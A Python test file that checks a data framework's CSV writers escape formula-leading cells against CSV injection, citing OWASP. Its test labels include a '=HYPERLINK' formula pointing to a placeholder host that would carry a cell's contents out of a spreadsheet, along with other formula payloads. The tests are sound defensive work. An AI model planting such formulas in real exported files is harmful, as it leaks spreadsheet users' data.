"""No CSV that sdt writes holds a live spreadsheet formula, and each reads back to its labels.

OWASP ("CSV Injection", OWASP/www-community pages/attacks/CSV_Injection.md):
a spreadsheet runs a cell beginning with ``=``, ``+``, ``-``, ``@``, tab, CR or
LF as a formula; such a cell must be written with a ``'`` in front. On main
before round 4 (issue 39, item 10) a condition or machine named
``=HYPERLINK(...)`` reached manifest.csv, results.csv and allocation.csv raw.
"""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from sdt_framework.csv_cells import FORMULA_STARTS, escape_cell, unescape_cell
from sdt_framework.data import open_manifest

#: labels a careless or hostile user gives, each a formula in a spreadsheet
FORMULAS = ['=HYPERLINK("x.example?"&A1,"see")', "+1+2", "-2+3", "@SUM(A1:A9)"]
LABELS = [*FORMULAS, "=1", "'=already quoted", "''@two", "\tTAB", "\rCR", "\nLF", "x=1"]


def _cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def _live(cell: str) -> bool:
    """A cell a spreadsheet would run: a formula start, and not a plain number."""
    try:
        float(cell)
        return False
    except ValueError:
        return cell != "" and cell[0] in FORMULA_STARTS


@pytest.mark.parametrize("label", [*LABELS, "-1.5", "+2e3", "healthy", "", "'plain'"])
def test_every_label_is_written_inert_and_read_back_unchanged(label):
    written = escape_cell(label)
    assert not _live(written)
    assert unescape_cell(written) == label
    if label and label[0] in FORMULA_STARTS and not label[1:2].isdigit():
        assert written == "'" + label  # OWASP: one single quote in front


def test_manifest_cells_are_inert_and_read_back_to_the_folder_names(tmp_path, sdt_main, readers):
    tree = tmp_path / "tree"
    for k, label in enumerate(FORMULAS):
        for run in ("r1", "r2"):
            (tree / label / f"{run}-{k}").mkdir(parents=True)
            np.save(tree / label / f"{run}-{k}" / "ch1.npy", np.full(64, float(k)))
    out = tmp_path / "manifest.csv"
    code, _, err = sdt_main("dataset", "manifest", str(tree), "--pattern",
                            "{condition}/{run}/{channel}.npy", "--out", str(out),
                            "--rate-hz", "1000")  # fmt: skip
    assert code == 0, err
    cells = _cells(out)
    assert not [cell for row in cells for cell in row if _live(cell)]
    assert {row[2] for row in cells[1:]} == {"'" + label for label in FORMULAS}
    read = {
        r.condition: float(r.load().mean())
        for r in open_manifest(out, readers=readers).recordings()
    }
    assert read == {label: float(k) for k, label in enumerate(FORMULAS)}


def test_result_tables_are_inert_and_the_report_reads_the_labels(tmp_path):
    from sdt_framework.bench.results import write_frame
    from sdt_framework.report.load import load_results

    machines = [*FORMULAS, "pump"]
    results = pd.DataFrame(
        {
            "machine": machines,
            "scenario": ["forward"] * 5,
            "sensor": ["adxl345"] * 5,
            "classifier": ["lr"] * 5,
            "macro_f1": [0.5, -0.25, 1.0, 0.0, 0.75],
            "status": ["ok"] * 5,
            "error": [None, "-x failed", None, None, None],
        }
    )
    allocation = pd.DataFrame({"machine": machines, "run": ["@r"] * 5, "severity": [1] * 5})
    write_frame(results, tmp_path / "results.csv")
    write_frame(allocation, tmp_path / "allocation.csv")
    for name in ("results.csv", "allocation.csv"):
        cells = _cells(tmp_path / name)
        assert not [cell for row in cells for cell in row if _live(cell)], name
    assert _cells(tmp_path / "results.csv")[2][4] == "-0.25"  # a number stays a number
    folder = load_results(tmp_path)
    assert list(folder.results["machine"]) == machines
    assert list(folder.results["error"].fillna("")) == ["", "-x failed", "", "", ""]
    assert list(folder.allocation["run"]) == ["@r"] * 5
